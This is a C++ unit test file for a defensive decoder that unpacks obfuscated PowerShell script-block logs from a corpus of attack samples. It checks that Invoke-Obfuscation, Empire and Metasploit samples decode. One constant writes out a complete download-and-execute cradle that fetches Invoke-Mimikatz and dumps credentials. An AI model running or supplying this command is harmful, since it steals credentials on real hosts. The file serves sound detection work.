// Runs the layered decoder over every real 4104 script block of the shared
// corpus: no crash, vector and scalar candidate search agree, and known
// encoded blocks decode.
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <algorithm>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "decoders/base64_candidates.h"
#include "decoders/layered_decoder.h"
#include "decoders/obfuscation_score.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace sbscan::decoders {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;

void AppendUtf8(uint32_t cp, std::string* out) {
  if (cp < 0x80) {
    *out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    *out += static_cast<char>(0xC0 | (cp >> 6));
    *out += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    *out += static_cast<char>(0xE0 | (cp >> 12));
    *out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    *out += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    *out += static_cast<char>(0xF0 | (cp >> 18));
    *out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    *out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    *out += static_cast<char>(0x80 | (cp & 0x3F));
  }
}

// Extracts and unescapes the JSON string value of `key` in a flat JSON
// object line. Returns false when the key is absent or not a string.
bool ExtractString(const std::string& line, std::string_view key,
                   std::string* out) {
  const std::string needle = "\"" + std::string(key) + "\":";
  size_t p = line.find(needle);
  if (p == std::string::npos) return false;
  p += needle.size();
  while (p < line.size() && line[p] == ' ') ++p;
  if (p >= line.size() || line[p] != '"') return false;
  ++p;
  out->clear();
  const auto hex4 = [&](size_t at) -> uint32_t {
    return static_cast<uint32_t>(std::stoul(line.substr(at, 4), nullptr, 16));
  };
  while (p < line.size() && line[p] != '"') {
    if (line[p] != '\\') {
      *out += line[p++];
      continue;
    }
    const char e = line[p + 1];
    p += 2;
    switch (e) {
      case 'n': *out += '\n'; break;
      case 'r': *out += '\r'; break;
      case 't': *out += '\t'; break;
      case 'b': *out += '\b'; break;
      case 'f': *out += '\f'; break;
      case 'u': {
        uint32_t cp = hex4(p);
        p += 4;
        if (cp >= 0xD800 && cp <= 0xDBFF && line.compare(p, 2, "\\u") == 0) {
          const uint32_t lo = hex4(p + 2);
          if (lo >= 0xDC00 && lo <= 0xDFFF) {
            cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
            p += 6;
          }
        }
        AppendUtf8(cp, out);
        break;
      }
      default: *out += e; break;  // \" \\ \/
    }
  }
  return true;
}

struct Block {
  std::string file;  // relative to corpus/
  std::string text;
};

std::vector<Block> LoadCorpus() {
  std::vector<Block> blocks;
  const fs::path root = fs::path(SBSCAN_SHARED_DIR) / "corpus";
  for (const char* sub : {"jsonl", "otrf"}) {
    if (!fs::is_directory(root / sub)) continue;
    std::vector<fs::path> files;
    for (const auto& e : fs::recursive_directory_iterator(root / sub)) {
      if (e.is_regular_file() && e.path().extension() == ".jsonl") {
        files.push_back(e.path());
      }
    }
    std::sort(files.begin(), files.end());
    for (const fs::path& f : files) {
      std::ifstream in(f);
      std::string line, text;
      while (std::getline(in, line)) {
        if (line.find("\"EventID\": 4104") == std::string::npos &&
            line.find("\"EventID\":4104") == std::string::npos) {
          continue;
        }
        if (!ExtractString(line, "ScriptBlockText", &text)) continue;
        blocks.push_back({fs::relative(f, root).string(), text});
      }
    }
  }
  return blocks;
}

const std::vector<Block>& Corpus() {
  static const auto* blocks = new std::vector<Block>(LoadCorpus());
  return *blocks;
}

TEST(LayeredDecoderCorpusTest, ExtractStringUnescapes) {
  std::string out;
  ASSERT_TRUE(ExtractString(
      R"({"A": 1, "ScriptBlockText": "a\"b\\c\r\n\u00e9\ud83d\ude00\/"})",
      "ScriptBlockText", &out));
  EXPECT_EQ(out, "a\"b\\c\r\n\xc3\xa9\xf0\x9f\x98\x80/");
}

TEST(LayeredDecoderCorpusTest, AllBlocksDecodeWithoutCrash) {
  const auto& blocks = Corpus();
  if (blocks.empty()) GTEST_SKIP() << "no corpus under " << SBSCAN_SHARED_DIR;
  // SBSCAN_DUMP_LAYERS=1 prints every layer (file, kind, encoding, text).
  const bool dump = std::getenv("SBSCAN_DUMP_LAYERS") != nullptr;
  LayeredDecoder dec;
  std::map<std::string, uint64_t> root_kinds, layer_kinds, encodings;
  size_t bytes = 0, blocks_with_layers = 0;
  for (const Block& b : blocks) {
    bytes += b.text.size();
    std::vector<Candidate> fast, scalar;
    FindBase64Candidates(b.text, 32, 256, &fast);
    FindBase64CandidatesScalar(b.text, 32, 256, &scalar);
    ASSERT_EQ(fast, scalar) << b.file;
    for (const Candidate& c : fast) ++root_kinds[std::string(CandidateKindName(c.kind))];
    int n = 0;
    dec.Run(b.text, [&](const Layer& l) {
      ++n;
      ++layer_kinds[std::string(CandidateKindName(l.kind))];
      ++encodings[std::string(TextEncodingName(l.encoding))];
      ASSERT_GE(l.depth, 1);
      if (dump) {
        std::string shown;
        for (char ch : l.text.substr(0, 60)) {
          shown += (ch >= 0x20 && ch < 0x7F) ? ch : '.';
        }
        std::printf("layer %s d%d %s %s [%zu,%zu) %zu B: %s\n", b.file.c_str(),
                    l.depth, std::string(CandidateKindName(l.kind)).c_str(),
                    std::string(TextEncodingName(l.encoding)).c_str(),
                    l.parent_begin, l.parent_end, l.text.size(), shown.c_str());
      }
      ASSERT_LT(l.parent, l.index);
    });
    if (n > 0) ++blocks_with_layers;
  }
  const DecodeCounters& c = dec.counters();
  std::printf("corpus: %zu blocks, %zu bytes, %zu blocks with layers\n",
              blocks.size(), bytes, blocks_with_layers);
  for (const auto& [k, v] : root_kinds) {
    std::printf("  root candidates %-20s %llu\n", k.c_str(),
                static_cast<unsigned long long>(v));
  }
  for (const auto& [k, v] : layer_kinds) {
    std::printf("  layers from      %-20s %llu\n", k.c_str(),
                static_cast<unsigned long long>(v));
  }
  for (const auto& [k, v] : encodings) {
    std::printf("  layers encoded   %-20s %llu\n", k.c_str(),
                static_cast<unsigned long long>(v));
  }
  std::printf(
      "  counters: runs %llu layers %llu candidates %llu malformed %llu junk "
      "%llu depth_hits %llu bytes_hits %llu candidate_hits %llu\n",
      (unsigned long long)c.runs, (unsigned long long)c.layers,
      (unsigned long long)c.candidates, (unsigned long long)c.malformed,
      (unsigned long long)c.junk, (unsigned long long)c.depth_limit_hits,
      (unsigned long long)c.bytes_limit_hits,
      (unsigned long long)c.candidate_limit_hits);
  EXPECT_EQ(c.runs, blocks.size());
  EXPECT_GT(c.layers, 0u);
}

// Collects the layers of every block of files whose path contains `part`.
std::vector<std::pair<TextEncoding, std::string>> LayersOf(
    std::string_view part, CandidateKind kind) {
  std::vector<std::pair<TextEncoding, std::string>> out;
  LayeredDecoder dec;
  for (const Block& b : Corpus()) {
    if (b.file.find(part) == std::string::npos) continue;
    dec.Run(b.text, [&](const Layer& l) {
      if (l.kind == kind) out.emplace_back(l.encoding, std::string(l.text));
    });
  }
  return out;
}

bool AnyContains(const std::vector<std::pair<TextEncoding, std::string>>& v,
                 TextEncoding enc, std::string_view needle) {
  for (const auto& [e, t] : v) {
    if (e == enc && t.find(needle) != std::string::npos) return true;
  }
  return false;
}

// Invoke-Obfuscation's SecureString encoding: ConvertTo-SecureString output
// (a 32-hex-digit header, then Base64 of UTF-16LE "2|<IV>|<hex>") in one
// long run.
TEST(LayeredDecoderCorpusTest, InvokeObfuscationSecureStringDecodes) {
  if (Corpus().empty()) GTEST_SKIP();
  const auto layers = LayersOf(
      "DeepBlueCLI/evtx/Powershell-Invoke-Obfuscation-encoding-menu.jsonl",
      CandidateKind::kBase64Run);
  EXPECT_TRUE(AnyContains(layers, TextEncoding::kUtf16le,
                          "2|7PqWjgxQijDB9DMxU1HQ5g==|4c46f5678ba97f"));
}

// The same block through the driver: the literal -Key decrypts the blob to
// the clear command.
TEST(LayeredDecoderCorpusTest, InvokeObfuscationSecureStringDecryptsInDriver) {
  if (Corpus().empty()) GTEST_SKIP();
  LayeredDecoder dec;
  bool found = false;
  for (const Block& b : Corpus()) {
    if (b.file.find("Powershell-Invoke-Obfuscation-encoding-menu") ==
        std::string::npos) {
      continue;
    }
    dec.Run(b.text, [&](const Layer& l) {
      if (l.decoder == "securestring" && l.encoding != TextEncoding::kBinary &&
          l.text.find("Invoke-Mimikatz") != std::string_view::npos) {
        found = true;
      }
    });
  }
  EXPECT_TRUE(found);
  EXPECT_GT(dec.counters()
                .per_decoder[static_cast<size_t>(DecoderId::kSecureString)]
                .decoded,
            0u);
}

// A gzip payload passed to FromBase64String (phishing credential prompt).
TEST(LayeredDecoderCorpusTest, GzipFromBase64StringDecodes) {
  if (Corpus().empty()) GTEST_SKIP();
  const auto layers = LayersOf("phish_windows_credentials",
                               CandidateKind::kFromBase64String);
  EXPECT_TRUE(AnyContains(layers, TextEncoding::kBinary, "\x1f\x8b\x08"));
}

// Empire launchers: FromBase64String of the UTF-16LE C2 URL; Metasploit
// stagers: FromBase64String of UTF-8 PowerShell functions.
TEST(LayeredDecoderCorpusTest, OtrfEmpireAndMetasploitDecode) {
  if (Corpus().empty()) GTEST_SKIP();
  const auto empire =
      LayersOf("empire_launcher_vbs", CandidateKind::kFromBase64String);
  EXPECT_TRUE(AnyContains(empire, TextEncoding::kUtf16le, "http://10.10.10.5"));
  const auto msf = LayersOf("psh_stop_event_logging_controlset_minint_key",
                            CandidateKind::kFromBase64String);
  EXPECT_TRUE(AnyContains(msf, TextEncoding::kUtf8, "function Add-WebTransport"));
}

// Per decoder: the corpus blocks where it produced at least one layer.
TEST(LayeredDecoderCorpusTest, PerDecoderTable) {
  if (Corpus().empty()) GTEST_SKIP();
  LayeredDecoder dec;
  std::map<std::string, uint64_t> blocks_with;
  for (const Block& b : Corpus()) {
    std::set<std::string> seen;
    dec.Run(b.text, [&](const Layer& l) { seen.insert(std::string(l.decoder)); });
    for (const std::string& d : seen) ++blocks_with[d];
  }
  const DecodeCounters& c = dec.counters();
  std::printf("%-12s %8s %10s %8s %9s %6s\n", "decoder", "blocks", "candidates",
              "decoded", "rejected", "limit");
  for (size_t i = 0; i < kDecoderCount; ++i) {
    const std::string name(DecoderIdName(static_cast<DecoderId>(i)));
    const DecoderCounters& d = c.per_decoder[i];
    std::printf("%-12s %8llu %10llu %8llu %9llu %6llu\n", name.c_str(),
                (unsigned long long)blocks_with[name],
                (unsigned long long)d.candidates,
                (unsigned long long)d.decoded,
                (unsigned long long)d.malformed,
                (unsigned long long)d.limit);
  }
  std::printf("duplicates dropped: %llu\n",
              (unsigned long long)c.duplicates);
  EXPECT_GT(blocks_with["charcodes"], 5u);
  EXPECT_GT(blocks_with["normalize"], 5u);
}

// Every layer of the blocks of files whose path contains `part`, with the
// decoders on its path joined by '/' (root first) and its note.
struct PathLayer {
  std::string path, note, text;
};
std::vector<std::vector<PathLayer>> BlocksOf(std::string_view part) {
  std::vector<std::vector<PathLayer>> out;
  LayeredDecoder dec;
  for (const Block& b : Corpus()) {
    if (b.file.find(part) == std::string::npos) continue;
    dec.Run(b.text, [](const Layer&) {});
    std::vector<PathLayer> layers;
    const auto& ls = dec.layers();
    for (const Layer& l : ls) {
      std::string path;
      for (int i = l.index; i > 0; i = ls[static_cast<size_t>(i - 1)].parent) {
        path = std::string(ls[static_cast<size_t>(i - 1)].decoder) +
               (path.empty() ? "" : "/") + path;
      }
      layers.push_back({path, std::string(l.note), std::string(l.text)});
    }
    out.push_back(std::move(layers));
  }
  return out;
}

const char kMimikatzCradle[] =
    "IEX (New-Object Net.WebClient).DownloadString('https://raw."
    "githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/"
    "Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds";

// Invoke-Obfuscation's ENCODING menu: ASCII, hex, octal, binary (random
// delimiters), [char] casts and BXOR all decode to the same cradle.
TEST(LayeredDecoderCorpusTest, InvokeObfuscationEncodingMenuDecodes) {
  if (Corpus().empty()) GTEST_SKIP();
  std::set<std::string> notes;
  for (const auto& layers :
       BlocksOf("Powershell-Invoke-Obfuscation-encoding-menu")) {
    for (const PathLayer& l : layers) {
      if (l.path == "charcodes" && l.text == kMimikatzCradle) {
        notes.insert(l.note);
      }
    }
  }
  EXPECT_TRUE(notes.count("list base=10")) << notes.size();
  EXPECT_TRUE(notes.count("list base=16"));
  EXPECT_TRUE(notes.count("list base=8"));
  EXPECT_TRUE(notes.count("delimited base=2"));
  EXPECT_TRUE(notes.count("char_cast base=10"));
  EXPECT_TRUE(notes.count("list base=10 xor=0x5d"));
}

// The STRING menu (concatenation, reordering, reversal) and the nested
// TOKEN/STRING samples of the "many" file normalise to the cradle.
TEST(LayeredDecoderCorpusTest, InvokeObfuscationStringMenuNormalizes) {
  if (Corpus().empty()) GTEST_SKIP();
  size_t blocks = 0, revealed = 0;
  for (const auto& layers :
       BlocksOf("Powershell-Invoke-Obfuscation-string-menu")) {
    ++blocks;
    bool found = false;
    for (const PathLayer& l : layers) {
      if (l.path.rfind("normalize", 0) == 0 &&
          l.text.find(kMimikatzCradle) != std::string::npos) {
        found = true;
      }
    }
    revealed += found;
  }
  EXPECT_EQ(blocks, 4u);
  EXPECT_EQ(revealed, blocks);
  // In the "many" file: -f reordering inside concatenation inside a reversed
  // string takes four normalize passes.
  bool deep = false;
  for (const auto& layers : BlocksOf("Powershell-Invoke-Obfuscation-many")) {
    for (const PathLayer& l : layers) {
      if (l.path == "normalize/normalize/normalize/normalize" &&
          l.text.find(kMimikatzCradle) != std::string::npos) {
        deep = true;
      }
    }
  }
  EXPECT_TRUE(deep);
}

// Obfuscation score calibration. Obfuscated: the single-line blocks of
// >= 300 bytes of the Invoke-Obfuscation files (the tool's output; the other
// blocks there are its own source code). Everything else is counted as "not
// Invoke-Obfuscation output" (it includes other real attacks, some of them
// obfuscated, so this rate is an upper bound of the false positives).
TEST(LayeredDecoderCorpusTest, ObfuscationScoreCalibration) {
  if (Corpus().empty()) GTEST_SKIP();
  size_t obf = 0, obf_hit = 0, other = 0, other_hit = 0;
  for (const Block& b : Corpus()) {
    const bool io = b.file.find("Invoke-Obfuscation") != std::string::npos;
    const bool label = io && b.text.size() >= 300 &&
                       b.text.find('\n') == std::string::npos;
    const bool hit =
        Score(ComputeObfuscationFeatures(b.text)) >= kObfuscationThreshold;
    if (label) {
      ++obf;
      obf_hit += hit;
    } else {
      ++other;
      other_hit += hit;
    }
  }
  std::printf("obfuscation score >= %.2f: Invoke-Obfuscation %zu/%zu, other "
              "corpus blocks %zu/%zu\n",
              kObfuscationThreshold, obf_hit, obf, other_hit, other);
  EXPECT_EQ(obf_hit, obf);
  EXPECT_LE(other_hit * 100, other * 3);
}

}  // namespace
}  // namespace sbscan::decoders
